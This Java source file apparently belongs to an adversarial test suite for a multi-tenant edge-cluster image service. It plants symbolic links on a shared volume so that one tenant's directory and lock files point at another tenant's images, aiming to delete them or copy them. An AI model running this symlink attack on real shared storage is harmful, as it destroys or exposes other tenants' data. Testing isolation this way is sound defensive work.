package org.chameleoncloud.edge.cluster.hostile;

import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;

/**
 * Links on the claim that both tenants' volume backs, the way any pod of the tenant can make them: his namespace's
 * directory becomes a link to the other's, so that the removal of his image removes another; a lock file becomes a link
 * to the other's image. And another's image, with all that is in it, as a source.
 */
final class PlantLinks implements Attack {
  private final AttackContext context;
  private final Path own;
  private final Path others;

  PlantLinks(AttackContext context) {
    this.context = context;
    own = context.claim().resolve(context.tenant().namespace());
    others = Path.of("..").resolve(context.victim().namespace());
  }

  @Override
  public String name() {
    return "links";
  }

  @Override
  public Duration pause() {
    return Duration.ofSeconds(2);
  }

  /** His image has the same file name as the other's. */
  @Override
  public void setUp() throws IOException {
    Files.createDirectories(own);
    lockFile("links-lock");
    context.tenant().apply(device(context.victim().image(), image("base-images", "pi4.img")));
    context.tenant().apply(device("links-lock", image("base-images", "pi4.img")));
    for (String file : List.of(".img", ".img.compact")) {
      context.tenant().apply(device("links-copy" + file.replace('.', '-'), image("edge-images",
          context.victim().namespace() + "/" + context.victim().image() + file)));
    }
  }

  private String device(String name, String... lines) {
    String[] all = Stream.concat(Stream.of("name: " + name.substring(0, Math.min(20, name.length()))
        + "-of-" + context.tenant().namespace()), Stream.of(lines)).toArray(String[]::new);
    return Manifests.device(name, AttackContext.OWN_SECRET, all);
  }

  private static String image(String claim, String path) {
    return "image: {source: {claimName: " + claim + ", path: " + path + "}}";
  }

  private void lockFile(String device) throws IOException {
    link(own.resolve("." + device + ".img.baking.lock"),
        others.resolve(context.victim().image() + ".img"));
    link(own.resolve("." + device + ".img.baking"),
        others.resolve(context.victim().image() + ".img"));
  }

  private static void link(Path link, Path target) throws IOException {
    if (Files.notExists(link, LinkOption.NOFOLLOW_LINKS)) {
      Files.createSymbolicLink(link, target);
    }
  }

  @Override
  public void step(int step) throws IOException {
    switch (step % 4) {
      case 0 -> {
        if (!Files.isSymbolicLink(own)) {
          lockFile("links-lock");
        }
        rebake(step);
      }
      case 1 -> {
        if (isStored() && !Files.isSymbolicLink(own)) {
          replaceByLink();
        }
      }
      case 2 -> {
        if (Files.isSymbolicLink(own)) {
          context.tenant().apply(device(context.victim().image()));
          context.tenant().deleteDevice("links-lock");
        }
      }
      default -> {
        if (!isStored() && Files.isSymbolicLink(own)) {
          Files.delete(own);
          setUp();
        }
      }
    }
  }

  private void rebake(int step) {
    for (String name : List.of("links-copy-img", "links-copy-img-compact")) {
      String path = context.victim().namespace() + "/" + context.victim().image()
          + name.replace("links-copy", "").replace('-', '.');
      context.tenant().apply(Manifests.annotated(device(name, image("edge-images", path)),
          "rebake", Integer.toString(step)));
    }
  }

  /** Whether his image of the other's file name is on the claim. */
  private boolean isStored() {
    return context.tenant().device(context.victim().image())
        .map(GenericKubernetesResource::getAdditionalProperties)
        .map(device -> device.get("status")).map(Object::toString)
        .filter(status -> status.contains("sha256")).isPresent();
  }

  /** The directory that he replaces stays under another name. */
  private void replaceByLink() throws IOException {
    Files.move(own, context.claim().resolve(".moved-" + System.nanoTime()));
    Files.createSymbolicLink(own, Path.of(context.victim().namespace()));
  }
}
